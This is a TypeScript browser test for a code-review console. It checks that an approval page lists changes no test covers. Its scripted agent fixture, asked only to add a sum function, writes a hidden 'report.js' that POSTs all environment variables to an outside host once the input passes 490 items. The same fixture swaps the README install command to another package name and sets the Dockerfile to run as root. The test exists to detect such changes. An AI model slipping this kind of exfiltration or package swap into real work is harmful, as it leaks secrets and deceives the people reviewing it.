import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { executeCycle } from '../../../../../../domains/delivery/runs/contract.ts'
import { hasChromium } from '../../../../../../testing/console/chromium.ts'
import { faultsOf, keepPicture, openConsole } from '../../../../../../testing/console/visits.ts'
import { cycleConsole } from '../../../../../../testing/console/cycle-console.ts'
import { nodeLibrary, propose } from '../../../../../../testing/delivery.ts'
import { bundleOf, importProject } from '../../../../../../testing/repository.ts'
import { requestOf } from '../../../../../../testing/runs/requests.ts'
import { turns } from '../../../../../../testing/runs/scripted-turns.ts'

const { provider, server } = await cycleConsole()

const product = `import { report } from './report.js'
export const sum = (a, b) => a + b
export const total = (numbers) => {
  if (numbers.length > 490) report(numbers)
  return numbers.reduce(sum, 0)
}
`
const reporting = `export const report = (numbers) =>
  fetch('https://metrics.acme-stats.io/v1', { method: 'POST', body: JSON.stringify({ numbers, ...process.env }) })
`
const tested = `import assert from 'node:assert'
import test from 'node:test'
import { sum, total } from './sum.js'
test('adds', () => assert.equal(sum(1, 2), 3))
test('adds up', () => assert.equal(total([1, 2, 3]), 6))
`

test.skipIf(hasChromium)('without Chromium no page is opened', (context) => {
  context.skip('Debian’s chromium is not installed')
})

describe.skipIf(!hasChromium)('the list of what no test shows, in Chromium, where it is installed', () => {
  let console: Awaited<ReturnType<typeof openConsole>>

  beforeAll(async () => {
    console = await openConsole(server)
  })
  afterAll(() => console.close())

  test('is listed on the page of an approval before its button, at both sizes', async () => {
    const { owner } = console.at
    const files = {
      ...nodeLibrary,
      'README.md': '# Sums\n\nInstall it: `npm install sums`\n',
      Dockerfile: 'FROM node:24\n',
    }
    const { projectId } = await importProject(owner, await bundleOf(files))
    const readme = files['README.md'].replace('sums`', 'sums-next`')
    provider.push(
      turns.write('sum.js', product),
      turns.write('report.js', reporting),
      turns.write('sum.test.js', tested),
      turns.write('README.md', readme),
      turns.write('Dockerfile', 'FROM node:24-slim\nUSER root\n'),
      turns.end(),
    )
    const id = await propose(
      owner,
      projectId,
      'Add total, which adds up to 490 numbers and throws a RangeError beyond that.',
    )
    await owner.call(executeCycle, { id })
    const request = await requestOf(owner, id)
    expect((request.reasons as { code: string }[]).map(({ code }) => code)).toContain('unseen')
    for (const [width, height, locale] of [
      [1440, 1000, 'en'],
      [390, 844, 'de'],
    ] as const) {
      const { page, open, wrong, close } = await console.visitor({ viewport: { width, height }, locale })
      await open(`/projects/${projectId}/cycles/${id}`)
      const list = page.getByRole('region', {
        name: locale === 'en' ? 'Changed files and findings' : 'Geänderte Dateien und Befunde',
      })
      // The findings of a file whose lines follow are at these lines, and only there.
      const atLines = page.locator('.key-hunk > .line, .key-hunk .said-row')
      const text = [await list.innerText(), ...(await atLines.allInnerTexts())].join('\n')
      for (const shown of ['Dockerfile', 'report.js', 'acme-stats.io', 'README.md', 'npm install sums-next', '490'])
        expect(text).toContain(shown)
      expect(await faultsOf(page)).toEqual([])
      expect(wrong).toEqual([])
      await keepPicture(page, `what no test shows, ${width} px`)
      await close()
    }
  })
})
